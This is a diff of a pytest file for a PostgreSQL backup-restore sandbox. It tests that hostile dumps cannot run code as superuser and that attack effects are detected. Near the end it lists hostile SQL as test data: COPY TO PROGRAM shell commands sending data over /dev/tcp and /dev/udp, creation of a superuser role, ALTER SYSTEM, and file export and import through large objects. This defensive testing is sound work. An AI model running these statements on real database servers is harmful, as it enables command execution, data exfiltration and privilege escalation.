@@ -3,20 +3,24 @@
 from __future__ import annotations
 
 import hashlib
+import os
 import shutil
 import signal
 import tempfile
 import threading
 import time
+from contextlib import suppress
+from dataclasses import replace
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import psutil
+import psycopg
 import pytest
 
 from merge import catalog, profile
-from merge.errors import BackupError, HomologationError
-from sandbox import restore, room
+from merge.errors import BackupError, BlockedError, HomologationError
+from sandbox import room
 from sandbox.console import Reporter
 from sandbox.intake import inspect
 from sandbox.preflight import Decisions, Preflight, all_checks
@@ -24,7 +28,7 @@ from sandbox.rehearsal import DATABASE, Rehearsal, Source
 from sandbox.restore import restore_central
 from sandbox.runs import Run
 from sandbox.source import load_source, owner_of, restore_schema
-from tests.hostile import BASE, FILES, HONEY, HOOKS, STUBS, Maker, Traps
+from tests.hostile import FILES, HONEY, HOOKS, PASSWORD, Maker, Traps
 from tests.witness import Listener, Witness, make_witness
 
 if TYPE_CHECKING:
@@ -105,13 +109,13 @@ def empty(server: Server, target: str) -> None:
         conn.execute("SELECT count(lo_unlink(oid)) FROM pg_largeobject_metadata")
 
 
-def outcome(work: Any, *args: Any) -> str:
+def outcome(work: Any, *args: Any, codes: tuple[int, ...] = (3, 4)) -> str:
     """What becomes of a file: an error must be one that a user can read, with its evidence."""
     started = time.monotonic()
     try:
         work(*args)
     except HomologationError as ex:
-        assert ex.exit_code in (3, 4), ex
+        assert ex.exit_code in codes, ex
         assert isinstance(ex, BackupError) or ex.details, ex
         assert ex.evidence
         assert HONEY not in " ".join([ex.what, *ex.details])
@@ -199,15 +203,128 @@ def rehearse(rehearsal: Rehearsal, path: Path) -> None:
         assert conn.execute("SELECT count(*), max(name::text || mood::text) FROM public.tb_person").fetchone()
 
 
-WITHOUT = ("check", "table check")
-"""Hooks that a rehearsal refuses: what a CHECK says cannot be asked of rows that are not in the table."""
+MEDDLES = ("trigger", "rule", "operators")
+"""Hooks that change what is written or read, so that a check or the proof finds something wrong."""
+QUIET = ";".join(change for name, change in HOOKS.items() if name not in MEDDLES)
 
 
-@pytest.mark.parametrize("name", [*HOOKS, "everything"])
+@pytest.mark.parametrize("name", ["quiet", *MEDDLES])
 def test_rehearsal(witness: Witness, maker: Maker, rehearsal: Rehearsal, name: str) -> None:
     """No query of the baseline, of the checks, of the merge and of the proofs runs the central's code as superuser."""
-    change = HOOKS.get(name) or ";".join(HOOKS.values())
     with witness.watched():
-        became = outcome(rehearse, rehearsal, maker.dump(change))
+        became = outcome(rehearse, rehearsal, maker.dump(HOOKS.get(name, QUIET)), codes=(3, 4, 6))
         assert not witness.tells_honey(DATABASE)
-    print(name, became)
+    assert became == ("restored" if name == "quiet" else "refused")
+
+
+# What takes time or room
+
+
+ENDLESS = "DO $$BEGIN LOOP PERFORM 1; END LOOP; END$$;"
+FILLS = "CREATE TABLE public.filler AS SELECT repeat(md5(i::text), 30) FROM generate_series(1, 1000000000000) i;"
+
+
+def _made(maker: Maker, statement: str, form: str) -> Path:
+    if form == "script":
+        return maker.script(statement)
+    return maker.edited(lambda toc, traps: toc.entry("COMMENT").update(defn=statement + "\n"))
+
+
+@pytest.mark.parametrize("form", ["script", "archive"])
+def test_what_never_ends_can_be_interrupted(server: Server, maker: Maker, form: str) -> None:
+    backup = inspect(_made(maker, ENDLESS, form), work=maker.folder / "work")
+    timer = threading.Timer(2, os.kill, [os.getpid(), signal.SIGINT])
+    timer.start()
+    started = time.monotonic()
+    with pytest.raises(KeyboardInterrupt):
+        restore_central(server, backup, "restored", jobs=2)
+    assert time.monotonic() - started < 30
+    assert not server.has_database("restored")
+    with server.connect("postgres") as conn:
+        assert conn.execute("SELECT 1 FROM pg_stat_activity WHERE usename = 'homolog_central'").fetchone() is None
+
+
+@pytest.mark.parametrize("form", ["script", "archive"])
+def test_what_fills_the_disk_is_ended(
+    server: Server, maker: Maker, form: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    backup = inspect(_made(maker, FILLS, form), work=maker.folder / "work")
+    free = shutil.disk_usage(server.place).free
+    monkeypatch.setattr(room, "KEPT_FREE", free - (200 << 20))
+    with pytest.raises(BackupError, match="disco") as caught:
+        restore_central(server, backup, "restored", jobs=2)
+    assert caught.value.evidence == str(backup.path)
+    assert not server.has_database("restored")
+
+
+# That these tests would tell
+
+
+PROGRAM = "COPY (SELECT 1) TO PROGRAM 'touch {d}/program'"
+EXPLOITS = ("check", "constant in an index", "predicate", "statistics", "cast", "operators")
+"""Hooks that were run by the superuser once: what the baseline, the checks and the proofs ask calls them."""
+
+
+@pytest.mark.parametrize("name", EXPLOITS)
+def test_a_superuser_would_run_it(
+    witness: Witness, maker: Maker, rehearsal: Rehearsal, name: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The same rehearsal as it would be if the baseline and the proofs connected as the superuser."""
+    path = replace(maker, traps=replace(witness.traps, only=PROGRAM)).dump(HOOKS[name])
+    monkeypatch.setattr(Rehearsal, "connect", lambda self: self.server.connect(DATABASE))
+    with suppress(BlockedError):
+        rehearse(rehearsal, path)
+    mark = Path(witness.traps.folder, "program")
+    assert mark.exists()
+    mark.unlink()
+
+
+EFFECTS = {
+    "files: program": ("files", "COPY (SELECT 1) TO PROGRAM 'touch {d}/program'"),
+    "files: copy": ("files", "COPY (SELECT 1) TO '{d}/copied'"),
+    "files: export": ("files", "SELECT lo_from_bytea(4711, 'x'); SELECT lo_export(4711, '{d}/exported');"
+                      " --SELECT lo_unlink(4711)"),
+    "came: tcp": ("came", "COPY (SELECT 1) TO PROGRAM 'bash -c \"echo x > /dev/tcp/{host}/{port}\"'"),
+    "came: udp": ("came", "COPY (SELECT 1) TO PROGRAM 'bash -c \"echo x > /dev/udp/{host}/{port}\"'"),
+    "programs": ("programs", "COPY (SELECT 1) TO PROGRAM 'cat > /dev/null; (sleep 5; : {d}) > /dev/null 2>&1 &'"),
+    "roles": ("roles", "CREATE ROLE intruder SUPERUSER; --DROP ROLE intruder"),
+    "members": ("members", "GRANT homolog_admin TO hostile_maker; --REVOKE homolog_admin FROM hostile_maker"),
+    "settings: role": ("settings", "ALTER ROLE homolog_admin SET work_mem = 999; --ALTER ROLE homolog_admin RESET ALL"),
+    "settings: database": ("settings", "ALTER DATABASE witness SET work_mem = 999; --ALTER DATABASE witness RESET ALL"),
+    "databases": ("databases", "COMMENT ON DATABASE postgres IS 'intruder'; --COMMENT ON DATABASE postgres IS NULL"),
+    "file": ("file", "ALTER SYSTEM SET work_mem = 999; --ALTER SYSTEM RESET ALL"),
+}
+
+
+@pytest.mark.parametrize("name", EFFECTS)
+def test_each_effect_is_seen(server: Server, witness: Witness, name: str) -> None:
+    """What `attack` tries is found when the superuser does it."""
+    where, statement = EFFECTS[name]
+    attack, _, undo = statement.format(d=witness.traps.folder, host=witness.traps.host, port=witness.traps.port
+                                       ).partition("; --")  # fmt: skip
+    before = witness.state()
+    with server.connect("postgres") as conn:
+        conn.execute(attack.encode())
+        time.sleep(0.2)
+        changed = witness.changed(before)
+        conn.execute(undo.encode())
+    for path in Path(witness.traps.folder).iterdir():
+        if path.name != "honey":
+            path.unlink()
+    assert where in [found.partition(":")[0] for found in changed]
+
+
+def test_secrets_and_sessions_are_seen(server: Server, witness: Witness) -> None:
+    """A password that is known, a session that is ended, and a file that was read."""
+    with server.connect("postgres") as conn:
+        conn.execute(f"ALTER ROLE hostile_maker PASSWORD '{PASSWORD}'".encode())
+        assert witness.open_to_intruders() == ["hostile_maker"]
+        server.create_role("hostile_maker")
+        assert witness.open_to_intruders() == []
+        with pytest.raises(psycopg.OperationalError), witness.watched():
+            conn.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'witness'")
+    server.create_database("restored", "hostile_maker")
+    with server.connect("restored") as conn:
+        conn.execute(f"SELECT lo_import('{witness.traps.folder}/honey')".encode())
+    assert witness.tells_honey("restored")
+    server.drop_database("restored")
